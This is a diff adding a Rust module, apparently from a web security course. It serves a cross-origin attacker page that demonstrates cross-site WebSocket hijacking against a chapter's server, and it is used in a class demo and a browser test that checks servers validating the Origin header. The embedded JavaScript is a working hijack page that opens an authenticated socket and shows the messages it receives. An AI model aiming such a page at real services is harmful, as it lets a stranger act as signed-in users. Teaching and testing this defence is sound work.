@@ -1,0 +1,110 @@
+//! Cross-Site WebSocket Hijacking, staged: a page on *another origin* that opens a WebSocket to
+//! the chapter's server.
+//!
+//! The browser attaches the visitor's cookies to that upgrade request, because cookies belong to
+//! the host they were set by, whichever page makes the request. Another port on the same host
+//! is another origin (RFC 6454 §4: scheme, host *and* port) but the same site, so even
+//! `SameSite=Strict` cookies come along. The WebSocket API has no same-origin rule of its own and
+//! no CORS preflight: the only thing that tells the server a stranger's page is asking is the
+//! `Origin` header (RFC 6455 §10.2). A server that ignores it hands the stranger a socket that
+//! acts as the signed-in user.
+//!
+//! [`start`] serves the page on its own listener; `one-port attacker` runs it for a class, and
+//! the browser test loads it to see the attack fail (`403`) against the checked server and work
+//! against the unchecked one.
+
+use std::net::{SocketAddr, TcpListener};
+use std::sync::Arc;
+use std::thread::JoinHandle;
+
+use tiny_http::{Header, Response};
+
+use crate::server::ServeError;
+
+/// The attacker's page, aimed at `target` (a `ws://…` URL). It writes what happened into
+/// elements the browser test reads: `#outcome` (`data-outcome` = `open` or `refused`) and
+/// `#received`.
+pub fn page(target: &str) -> String {
+    // `target` comes from our own command line or test; keep it inside a JSON string anyway.
+    let target = target.replace('\\', "\\\\").replace('"', "\\\"").replace('<', "\\u003c");
+    format!(
+        r#"<!doctype html>
+<html lang="en">
+<head><meta charset="utf-8"><title>A page on another origin</title></head>
+<body>
+<h1>A page on another origin</h1>
+<p>This page was not served by the chapter's server. It opens <code id="target"></code> anyway;
+your browser adds your session cookie to the request.</p>
+<p>Outcome: <strong id="outcome" data-outcome="">connecting…</strong></p>
+<ol id="received"></ol>
+<script>
+  var target = "{target}";
+  document.getElementById("target").textContent = target;
+  var outcome = document.getElementById("outcome");
+  var ws = new WebSocket(target);
+  ws.onopen = function () {{
+    outcome.textContent = "open: the server accepted a socket for a page it never served";
+    outcome.setAttribute("data-outcome", "open");
+  }};
+  ws.onmessage = function (event) {{
+    var item = document.createElement("li");
+    item.textContent = String(event.data);
+    document.getElementById("received").appendChild(item);
+  }};
+  ws.onclose = function (event) {{
+    if (outcome.getAttribute("data-outcome") !== "open") {{
+      outcome.textContent = "refused: no socket (close code " + event.code + ")";
+      outcome.setAttribute("data-outcome", "refused");
+    }}
+  }};
+</script>
+</body>
+</html>
+"#
+    )
+}
+
+/// The attacker's server, running.
+pub struct Attacker {
+    http: Arc<tiny_http::Server>,
+    addr: SocketAddr,
+    worker: JoinHandle<()>,
+}
+
+impl Attacker {
+    /// Where the page is.
+    pub fn addr(&self) -> SocketAddr {
+        self.addr
+    }
+
+    /// Stops serving.
+    pub fn stop(self) {
+        self.http.unblock();
+        let _ = self.worker.join();
+    }
+
+    /// Waits until the server stops (it runs until the process ends).
+    pub fn wait(self) {
+        let _ = self.worker.join();
+    }
+}
+
+/// Serves [`page`] for `target` at every path on `listener`.
+pub fn start(listener: TcpListener, target: &str) -> Result<Attacker, ServeError> {
+    let addr = listener.local_addr().map_err(|e| ServeError::Http(e.to_string()))?;
+    let http = Arc::new(
+        tiny_http::Server::from_listener(listener, None).map_err(|e| ServeError::Http(e.to_string()))?,
+    );
+    let html = page(target);
+    let server = http.clone();
+    let worker = std::thread::spawn(move || {
+        while let Ok(request) = server.recv() {
+            let response = Response::from_string(html.clone()).with_header(
+                Header::from_bytes(&b"Content-Type"[..], &b"text/html; charset=utf-8"[..])
+                    .unwrap_or_else(|()| panic!("a constant header")),
+            );
+            let _ = request.respond(response);
+        }
+    });
+    Ok(Attacker { http, addr, worker })
+}
